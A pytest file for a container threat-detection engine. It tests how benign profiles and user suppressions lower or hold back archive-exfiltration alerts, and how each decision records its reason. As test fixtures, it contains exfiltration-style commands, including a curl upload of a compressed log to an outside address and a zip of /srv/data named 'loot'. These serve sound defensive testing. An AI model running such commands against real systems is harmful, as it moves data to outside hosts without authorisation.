"""Benign profiles and user suppressions: they lower or hold back, never silently."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import msgspec
import pytest

from tests.builders import connect, container, launch
from tidewaiter.detection.analytics import Finding
from tidewaiter.detection.suppress import (
    Match,
    Suppression,
    SuppressionError,
    load_suppressions,
)
from tidewaiter.events import Container, Event
from tidewaiter.pipeline import Engine, EngineConfig


def run(events: list[Event], **config: object) -> tuple[list[Finding], list[Finding]]:
    delivered: list[Finding] = []
    held: list[Finding] = []
    engine = Engine(delivered.append, EngineConfig(**config), on_suppressed=held.append)  # type: ignore[arg-type]
    for event in sorted(events, key=lambda e: e.time):
        engine.process(event)
    engine.flush()
    return delivered, held


def exfil(parent: str | None = None, cmd: str = "tar -czf /tmp/a.tgz /data") -> list[Event]:
    ctr = container()
    return [
        launch(cmd, time=1000, ctr=ctr, parent_cmd=parent),
        connect("198.51.100.20", time=1100, ctr=ctr, sent=10_000),
    ]


def test_package_manager_maintainer_script_compression_is_held_back_with_its_reason() -> None:
    ctr = container()
    gzip = exfil(parent="/usr/bin/dpkg --configure -a", cmd="gzip -9n /usr/share/doc/jq/changelog")
    # The app talked to that address before the install: its later traffic is not carrying it.
    before = connect("198.51.100.20", time=900, ctr=ctr, sent=500)
    delivered, [held] = run([before, *gzip])
    assert delivered == []
    assert held.suppressed_by is not None
    assert held.suppressed_by.startswith("benign profile package-manager")
    assert "gzip was started by dpkg" in held.suppressed_by
    # A process that first sends out after the archive is not the installer's own download: a
    # parent's name is the attacker's to choose, so the profile does not hide it.
    [alert], held = run(gzip)
    assert held == []
    assert any("not held back as package manager" in r for r in alert.reasons)


def backup_job(owner: str = "CronJob/etcd-backup") -> Container:
    return msgspec.structs.replace(container(), namespace="kube-system", owner=owner)


def test_backup_tool_lowers_to_low_only_in_a_backup_job_and_says_so() -> None:
    snapshot = "/bin/sh -c etcdctl snapshot save /backup/etcd.db && gzip /backup/etcd.db"

    def events(ctr: Container) -> list[Event]:
        return [
            launch("gzip /backup/etcd.db", time=1000, ctr=ctr, parent_cmd=snapshot),
            launch("aws s3 cp /backup/etcd.db.gz s3://cluster-backups/etcd/", time=1100, ctr=ctr),
        ]

    [finding], held = run(events(backup_job()))
    assert held == []
    assert finding.analytic.uid == "tw-archive-exfil"
    assert finding.severity_id == 2  # critical (upload naming the archive), lowered to low
    assert any("lowered by benign profile backup-tool" in r for r in finding.reasons)
    assert any("a CronJob (kube-system/etcd-backup)" in r for r in finding.reasons)
    # The same text in a web API replica is the attacker's: not lowered, and it says why.
    [finding], _ = run(events(backup_job("Deployment/api")))
    assert finding.severity_id == 5
    assert any(r.startswith("not lowered as a backup tool") for r in finding.reasons)


def test_database_dump_compression_is_lowered_in_a_batch_job_only() -> None:
    dump = "/bin/sh -c pg_dump app | gzip > /backup/app.sql.gz"
    [finding], _ = run(exfil(parent=dump, cmd="gzip -c"))
    assert finding.severity_id == 3  # medium (egress after an archive): nothing vouches for it
    [finding], _ = run(
        [
            launch("gzip -c", time=1000, ctr=backup_job("Job/db-backup-manual"), parent_cmd=dump),
            connect("198.51.100.20", time=1100, ctr=backup_job("Job/db-backup-manual"), sent=1),
        ]
    )
    assert finding.severity_id == 2
    assert any(r.startswith("lowered by benign profile database-dump") for r in finding.reasons)


def test_build_packaging_applies_only_when_uploads_stay_inside_or_allowed() -> None:
    ctr = container()
    build = [
        launch(
            "tar -czf /src/dist/app-1.2.tgz build/",
            time=1000,
            ctr=ctr,
            parent_cmd="/bin/sh -c npm pack && tar -czf dist/app-1.2.tgz build/",
        ),
        launch(
            "curl -T /src/dist/app-1.2.tgz https://artifacts.example.com/up", time=1050, ctr=ctr
        ),
    ]
    delivered, held = run(build)
    assert [f.analytic.uid for f in delivered] == ["tw-archive-exfil"]  # public, not allowed
    delivered, held = run(build, allowed_destinations=("artifacts.example.com",))
    assert delivered == []
    assert held[0].suppressed_by is not None
    assert "build-packaging" in held[0].suppressed_by


def test_user_suppression_by_image_and_destination() -> None:
    rule = Suppression(
        id="payments-export",
        match=Match(image="registry.example.com/payments/*", destination="198.51.100.0/24"),
        reason="nightly partner export",
        author="sec@example.com",
        expires=date(2099, 1, 1),
    )
    delivered, [held] = run(exfil(), suppressions=(rule,))
    assert delivered == []
    assert (
        held.suppressed_by
        == "suppression payments-export: nightly partner export (sec@example.com)"
    )
    other = Suppression("x", Match(destination="203.0.113.0/24"), "r", "a")
    delivered, held = run(exfil(), suppressions=(other,))
    assert len(delivered) == 1
    assert held == []


def test_user_suppression_by_command_and_analytic() -> None:
    rule = Suppression(
        "tar-data", Match(analytic="tw-archive-exfil", command="tar -czf * /data"), "r", "a"
    )
    delivered, held = run(exfil(), suppressions=(rule,))
    assert (delivered, len(held)) == ([], 1)
    wrong = Suppression("t", Match(analytic="tw-archive-created", command="tar *"), "r", "a")
    delivered, held = run(exfil(), suppressions=(wrong,))
    assert (len(delivered), held) == (1, [])


def test_expired_suppression_no_longer_applies_and_is_reported() -> None:
    rule = Suppression(
        "old", Match(analytic="tw-archive-exfil"), "r", "a", expires=date(2020, 1, 1)
    )
    engine = Engine(lambda f: None, EngineConfig(suppressions=(rule,)))
    assert [s.id for s in engine.suppressor.expired] == ["old"]
    delivered, held = run(exfil(), suppressions=(rule,))
    assert (len(delivered), held) == (1, [])


def test_suppressions_file(tmp_path: Path) -> None:
    good = tmp_path / "s.yaml"
    good.write_text(
        "suppressions:\n"
        "  - id: backup\n"
        "    match: {workload: 'k8s:databases/*', destination: 10.20.0.0/16}\n"
        "    reason: nightly backup to the store\n"
        "    author: ops@example.com\n"
        "    expires: 2027-01-31\n"
    )
    [rule] = load_suppressions(good)
    assert (rule.id, rule.match.workload, rule.expires) == (
        "backup",
        "k8s:databases/*",
        date(2027, 1, 31),
    )
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "suppressions:\n  - id: x\n    match: {colour: red}\n    reason: r\n    author: a\n"
    )
    with pytest.raises(SuppressionError, match=r"bad\.yaml"):
        load_suppressions(bad)
    with pytest.raises(SuppressionError, match="cannot read"):
        load_suppressions(tmp_path / "absent.yaml")


def test_allowed_destinations_by_name_subdomain_and_cidr() -> None:
    ctr = container()
    events = [
        launch(
            "gzip /backup/db.sql",
            time=1000,
            ctr=ctr,
            parent_cmd="/bin/sh -c pg_dump app > /backup/db.sql && gzip /backup/db.sql",
        ),
        launch("aws s3 cp /backup/db.sql.gz s3://corp-backups/db/", time=1010, ctr=ctr, pid=400),
        connect("198.51.100.9", time=1011, ctr=ctr, sent=5_000_000, pid=400),  # the upload's own
    ]
    [lowered], _ = run(events)
    assert lowered.severity_id == 5  # the bucket is not declared, and no backup job vouches
    # The bucket's name alone does not allow what its connection shows going to an address
    # nobody declared (the name could have been rerouted); the store's range with it does.
    [still], _ = run(events, allowed_destinations=("corp-backups",))
    assert still.severity_id == 5
    store = ("corp-backups", "198.51.100.0/24")
    delivered, [held] = run(events, allowed_destinations=store)
    assert delivered == []
    assert held.suppressed_by is not None
    assert held.suppressed_by.startswith("benign profile database-dump")
    # With no connection telemetry at all, the name is all there is, and the finding says so.
    _, [by_name] = run(events[:2], allowed_destinations=("corp-backups",))
    assert by_name.suppressed_by is not None
    assert "corp-backups allowed by name only" in by_name.suppressed_by
    other = [*events, connect("203.0.113.50", time=1012, ctr=ctr, sent=10, pid=401)]
    [still], _ = run(other, allowed_destinations=store)
    assert still.severity_id == 5  # another process's traffic left for an undeclared address
    _, [held] = run(other, allowed_destinations=(*store, "203.0.113.0/24"))
    assert held.suppressed_by is not None


def test_a_backup_tool_that_ran_just_before_covers_its_scripts_gzip() -> None:
    ctr = container()
    events = [
        launch("etcdctl snapshot save /var/backups/snap.db", time=990, ctr=ctr, pid=50),
        launch("gzip -f /var/backups/snap.db", time=1000, ctr=ctr, pid=51),
        launch("aws s3 cp /var/backups/snap.db.gz s3://corp-etcd/", time=1005, ctr=ctr, pid=52),
    ]
    [finding], _ = run(events)
    assert finding.severity_id == 5  # a binary named etcdctl ran: text, not a backup job
    assert any("etcdctl ran just before in the same place" in r for r in finding.reasons)
    job = [msgspec.structs.replace(e, container=backup_job()) for e in events]
    [finding], _ = run(job)
    assert finding.severity_id == 2  # critical, lowered to low outside the allowed buckets
    assert run(job[1:])[0][0].severity_id == 5  # without it: nothing covers the gzip


def test_log_rotation_followed_by_unrelated_traffic_is_held_but_not_an_upload_of_it() -> None:
    ctr = container()
    rotate = launch(
        "gzip /var/log/app/app.log.1",
        time=1000,
        ctr=ctr,
        parent_cmd="/usr/sbin/logrotate /etc/logrotate.conf",
    )
    ntp = connect("198.51.100.123", port=123, time=1030, ctr=ctr, sent=48)
    polled = connect("198.51.100.123", port=123, time=700, ctr=ctr, sent=48)  # chronyd, earlier
    delivered, [held] = run([polled, rotate, ntp])
    assert delivered == []
    assert held.suppressed_by is not None
    assert "log-rotation" in held.suppressed_by
    stolen = launch("curl -T /var/log/app/app.log.1.gz https://203.0.113.8/u", time=1040, ctr=ctr)
    [alert], held = run([rotate, stolen])
    assert held == []
    assert alert.severity_id == 5  # the uploader names the rotated log: no profile covers that


def test_a_package_manager_run_nearby_does_not_hide_an_unrelated_archive() -> None:
    ctr = container()
    events = [
        launch("apt-get install -y zip", time=990, ctr=ctr, pid=60),
        launch("zip -r /tmp/loot.zip /srv/data", time=1000, ctr=ctr, pid=61),
        connect("198.51.100.20", time=1100, ctr=ctr, sent=10_000, pid=62),
    ]
    [finding], held = run(events)
    assert held == []
    assert finding.severity_id == 3
